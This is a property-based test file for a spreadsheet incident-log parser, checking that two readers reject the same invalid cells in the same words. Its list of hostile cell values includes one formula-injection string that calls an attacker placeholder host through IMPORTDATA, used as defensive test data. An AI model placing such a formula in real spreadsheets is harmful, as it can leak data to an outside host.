/**
 * The incident log's one reader (every figure) and the row parser (Check workbook, the documents' lists)
 * refuse the same cells in the same words and read the rows both keep to the same values, whatever the rows
 * hold; a bad Type or Priority keeps the row for availability only.
 */
import fc from 'fast-check';
import { buildModel } from '../../../src/core/attainment/model';
import { readIncidentColumns, workbookColumns, type IncidentColumns } from '../../../src/core/attainment/columns';
import { tabDef } from '../../../src/core/schema/workbook';
import { parseWorkbook } from '../../../src/core/workbook/parseWorkbook';
import type { Problem } from '../../../src/core/workbook/problems';
import { at, baseTabs, sheet, TZ, valuesOf } from './fixture';

const T0 = at('2026-10-26');
const HOUR = 3_600_000;

/** Values a careless or hostile user might leave in a cell of any column. */
const junk = fc.constantFrom<unknown>(
  '',
  ' ',
  null,
  'fixed',
  'lots',
  'maybe',
  -2,
  0,
  3.5,
  '2',
  true,
  false,
  'Yes',
  'no',
  'Y',
  'n/a',
  'EMAIL',
  'email ',
  'NOPE',
  'Incident',
  'request',
  'HIGH',
  'Medium ',
  'Sometimes',
  'Hardware',
  'printer',
  '2026-11-03 09:00',
  '03/11/2026 10:00',
  '11/30/2026 14:05',
  '1000-01-01',
  '20226-09-01',
  '=IMPORTDATA("https://attacker.example/")',
  'x'.repeat(300),
  new Date(Date.UTC(3000, 0, 1)),
  new Date(Date.UTC(1066, 9, 14)),
  new Date(NaN),
);

/** A cell for one column: mostly what the column expects, sometimes anything at all. */
const cellFor = (key: string): fc.Arbitrary<unknown> => {
  const col = tabDef('incidents').columns.find((c) => c.key === key)!;
  const good: fc.Arbitrary<unknown> =
    col.type === 'datetime'
      ? fc.integer({ min: -48, max: 24 * 30 }).map((h) => new Date(T0 + h * HOUR))
      : col.type === 'enum'
        ? fc.constantFrom(...(col.values ?? []))
        : col.type === 'number'
          ? fc.integer({ min: 0, max: 8 })
          : col.type === 'yesno'
            ? fc.constantFrom('Yes', 'No', true, false)
            : key === 'serviceId'
              ? fc.constantFrom('EMAIL', 'NET', 'LIBRARY')
              : fc.string({ minLength: 1, maxLength: 6 });
  return fc.oneof({ arbitrary: good, weight: 6 }, { arbitrary: fc.constant(''), weight: 2 }, { arbitrary: junk, weight: 2 });
};

const KEYS = tabDef('incidents').columns.map((c) => c.key);
const row = fc.record(Object.fromEntries(KEYS.map((k) => [k, cellFor(k)])) as Record<string, fc.Arbitrary<unknown>>);

/** The columns as plain arrays, keeping only the rows `keep` accepts. */
const plain = (cols: IncidentColumns, keep: (i: number) => boolean = () => true) => {
  const out: Record<string, unknown[]> = {};
  const rows = Array.from({ length: cols.length }, (_, i) => i).filter(keep);
  for (const [k, v] of Object.entries(cols)) if (typeof v === 'object' && v !== null && 'length' in v) out[k] = rows.map((i) => (v as ArrayLike<number>)[i]);
  out.ref = rows.map((i) => cols.ref(i));
  return out;
};
const cellsOf = (ps: readonly Problem[]) =>
  ps
    .filter((p) => p.tab === 'Incidents' && p.row > 1 && p.severity === 'error' && !/ is not a .* on the .* tab\.$|already used on row/.test(p.message))
    .map((p) => `${p.row}|${p.column}|${p.message}`)
    .sort();

describe('the incident log read by the one reader and row by row agree', () => {
  test('same cells reported in the same words, same values read (random rows)', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 25 }), (records) => {
        const tabs = baseTabs();
        tabs.incidents = records;
        const parsed = parseWorkbook(valuesOf(tabs), TZ);
        const model = buildModel(parsed.workbook);
        const skipped: Problem[] = [];
        const read = readIncidentColumns(sheet('incidents', records), model, [], skipped);
        // Rows kept for availability only are left out of the parsed rows, so the parser never checks their times.
        const availabilityOnly = new Set(skipped.filter((p) => /counts only for availability/.test(p.message)).map((p) => p.row));
        expect(cellsOf(skipped.filter((p) => !availabilityOnly.has(p.row) || !/ is before /.test(p.message)))).toEqual(cellsOf(parsed.problems));
        // The parsed rows, laid out as cells again and read by the same reader, give the same columns.
        expect(plain(read, (i) => !availabilityOnly.has(read.row[i]))).toEqual(
          plain(workbookColumns({ incidents: [...parsed.workbook.incidents], holds: [] }, model)),
        );
        // A read workbook's own log is read from its cells: the same columns as the sheet's values.
        expect(plain(workbookColumns(parsed.workbook, model))).toEqual(plain(read));
      }),
      { numRuns: 300, seed: 9 },
    );
  });

  test('each bad value named in the issue leaves its row out and is reported, never misread', () => {
    const good = { ref: 'OK', serviceId: 'EMAIL', type: 'Incident', priority: 'High', opened: new Date(T0 + 10 * HOUR), resolved: new Date(T0 + 12 * HOUR) };
    const bad: Array<[string, Record<string, unknown>, string]> = [
      ['unreadable Opened', { opened: 'yesterday' }, 'Opened'],
      ['Opened in year 3000', { opened: new Date(Date.UTC(3000, 0, 1)) }, 'Opened'],
      ['Resolved before Opened', { resolved: new Date(T0) }, 'Resolved'],
      ['Resolved = "fixed"', { resolved: 'fixed' }, 'Resolved'],
      ['On hold = "lots"', { onHoldHours: 'lots' }, 'On hold (h)'],
      ['On hold negative', { onHoldHours: -3 }, 'On hold (h)'],
      ['Service down = "maybe"', { serviceDown: 'maybe' }, 'Service down'],
    ];
    const tabs = baseTabs();
    tabs.incidents = [good, ...bad.map(([, change], k) => ({ ...good, ref: `B${k}`, ...change }))];
    const parsed = parseWorkbook(valuesOf(tabs), TZ);
    const model = buildModel(parsed.workbook);
    const skipped: Problem[] = [];
    const fast = readIncidentColumns(sheet('incidents', tabs.incidents), model, [], skipped);
    expect(fast.length).toBe(1);
    expect(parsed.workbook.incidents.map((i) => i.ref)).toEqual(['OK']);
    bad.forEach(([, , column], k) => {
      expect(skipped).toContainEqual(expect.objectContaining({ row: k + 3, column, message: expect.stringMatching(/left out of the figures/) }));
    });
  });

  test('an unreadable Type or Priority keeps the row for availability only, and says so', () => {
    const good = {
      ref: 'OK',
      serviceId: 'EMAIL',
      type: 'Incident',
      priority: 'High',
      opened: new Date(T0 + 10 * HOUR),
      resolved: new Date(T0 + 12 * HOUR),
      serviceDown: 'Yes',
      contractRef: '',
    };
    const tabs = baseTabs();
    tabs.incidents = [
      good,
      { ...good, ref: 'P', priority: 'P2' },
      { ...good, ref: 'T', type: 'Fault' },
      { ...good, ref: 'B', priority: '' },
      { ...good, ref: 'X', priority: 'P2', opened: 'soon' },
    ];
    const parsed = parseWorkbook(valuesOf(tabs), TZ);
    const model = buildModel(parsed.workbook);
    const skipped: Problem[] = [];
    const cols = readIncidentColumns(sheet('incidents', tabs.incidents), model, [], skipped);
    expect(Array.from({ length: cols.length }, (_, i) => [cols.ref(i), cols.kind[i] >= 0, cols.down[i]])).toEqual([
      ['OK', true, 1],
      ['P', false, 1],
      ['T', false, 1],
      ['B', false, 1],
    ]);
    expect(skipped.map((p) => [p.row, p.column, /counts only for availability/.test(p.message)])).toEqual([
      [3, 'Priority', true],
      [4, 'Type', true],
      [5, 'Priority', true],
      [6, 'Priority', false],
      [6, 'Opened', false],
    ]);
    expect(cellsOf(parsed.problems)).toEqual(cellsOf(skipped));
  });
});
